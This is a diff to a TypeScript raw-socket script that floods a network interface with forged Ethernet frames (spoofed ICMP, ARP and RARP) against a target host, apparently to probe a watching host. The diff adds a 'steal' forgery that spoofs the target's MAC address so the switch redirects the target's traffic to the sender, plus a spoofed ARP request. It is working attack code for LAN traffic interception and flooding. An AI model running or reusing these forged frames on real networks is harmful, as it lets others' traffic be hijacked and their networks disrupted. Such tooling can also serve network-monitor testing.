@@ -3,7 +3,8 @@
  * in turn, for so long. What may be guessed, it guesses anew each time; what was sent it does not see.
  */
 import { getRandomValues } from 'node:crypto';
-import { loadLibc, type Memory } from '../../probes/icmp/libc.js';
+import { loadLibc } from '../../probes/net/libc.js';
+import { Memory } from '../../probes/net/memory.js';
 
 export interface Host {
   mac: string;
@@ -28,10 +29,11 @@ interface Frame {
   icmp?: number;
 }
 
-export type Forgery = 'reply' | 'error' | 'stamp' | 'arp' | 'rarp';
+export type Forgery = 'reply' | 'error' | 'stamp' | 'arp' | 'rarp' | 'steal' | 'ask';
 
 const BROADCAST = 'ffffffffffff';
 const STRANGER = '0a5e00000003';
+const STRANGER_IP = '0a5e0003';
 const NOBODY = '000000000000';
 const PAYLOAD = '5a'.repeat(56);
 const ECHO = 'dead0001';
@@ -68,6 +70,16 @@ const FORGERIES: Record<Forgery, (watcher: Host, target: Host) => Frame> = {
   arp: (_, target) => ({ text: own(STRANGER, target.ip, '0806', '0002'), guesses: [26] }),
   /** The target's own address, as if it had moved. */
   rarp: (_, target) => ({ text: own(target.mac, '00000000', '8035', '0003'), guesses: [] }),
+  /** The same with the target's address as Ethernet source: the switch then sends the target's traffic to us. */
+  steal: (_, target) => ({
+    text: `${BROADCAST}${target.mac}80350001080006040003${target.mac}00000000${target.mac}00000000`,
+    guesses: [],
+  }),
+  /** An ARP request for the target: its reply shows the switch where it really is. */
+  ask: (_, target) => ({
+    text: `${BROADCAST}${STRANGER}08060001080006040001${STRANGER}${STRANGER_IP}${NOBODY}${target.ip}`,
+    guesses: [],
+  }),
 };
 
 function onesComplement(data: Uint8Array, from: number): number {
@@ -80,14 +92,14 @@ function onesComplement(data: Uint8Array, from: number): number {
 const { device, kinds, perSecond, seconds, watcher, target }: Flood = JSON.parse(process.argv[2]!);
 const libc = await loadLibc();
 const fd = libc.socket(17, 3, 0);
-const address = libc.allocate(20);
+const address = new Memory(20);
 address.view.setUint16(0, 17, true);
 address.view.setInt32(4, libc.if_nametoindex(device), true);
 
 const frames = kinds.map(kind => {
   const frame = FORGERIES[kind](watcher, target);
   const bytes = Buffer.from(frame.text, 'hex');
-  const memory = libc.allocate(bytes.length);
+  const memory = new Memory(bytes.length);
   memory.bytes.set(bytes);
   return { ...frame, memory };
 });
@@ -98,7 +110,7 @@ function forge({ memory, guesses, icmp }: Frame & { memory: Memory }): void {
     memory.view.setUint16(icmp + 2, 0);
     memory.view.setUint16(icmp + 2, onesComplement(memory.bytes, icmp));
   }
-  libc.sendto(fd, memory.address, memory.bytes.length, 0, address.address, 20);
+  libc.sendto(fd, memory.bytes, 0, address.bytes);
 }
 
 const sleeper = new Int32Array(new SharedArrayBuffer(4));
